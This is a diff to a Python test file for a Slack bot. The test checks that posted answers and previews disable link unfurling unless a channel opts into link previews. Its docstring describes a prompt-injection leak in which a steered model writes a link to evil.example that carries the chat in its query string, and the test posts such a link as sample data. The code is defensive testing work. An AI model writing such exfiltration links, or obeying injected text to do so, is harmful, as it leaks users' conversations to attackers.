@@ -283,16 +283,23 @@ async def test_a_slack_backoff_never_holds_other_channels_deliveries(
         await storage.backend.close()
 
 
-async def test_the_bots_posts_unfurl_nothing(fake_slack: FakeSlack, slack_channel) -> None:
+@pytest.mark.parametrize("link_previews", [False, True])
+async def test_the_bots_posts_unfurl_nothing(
+    fake_slack: FakeSlack, slack_channel, link_previews: bool
+) -> None:
     """Slack's servers fetch a posted media link to unfurl it, with no one clicking: a
     model steered into writing https://evil.example/p.png?d=<the chat> leaked it by
-    itself. Answers and previews are posted with unfurling off."""
-    channel = await _sender(slack_channel)
+    itself. Answers and previews are posted with unfurling off, unless the channel's
+    ``link_previews`` says otherwise (then Slack's own defaults apply)."""
+    channel, _ = await slack_channel(app_token="", signing_secret="s", link_previews=link_previews)
     link = "see https://evil.example/p.png?d=secret"
     await channel.send(OutboundMessage(DM, link))
     await channel.post_preview(DM, link, None)
     calls = fake_slack.calls_to("chat.postMessage")
     assert len(calls) == 2
     for call in calls:
-        assert str(call.params["unfurl_links"]).lower() in ("false", "0")
-        assert str(call.params["unfurl_media"]).lower() in ("false", "0")
+        if link_previews:
+            assert "unfurl_links" not in call.params and "unfurl_media" not in call.params
+        else:
+            assert str(call.params["unfurl_links"]).lower() in ("false", "0")
+            assert str(call.params["unfurl_media"]).lower() in ("false", "0")
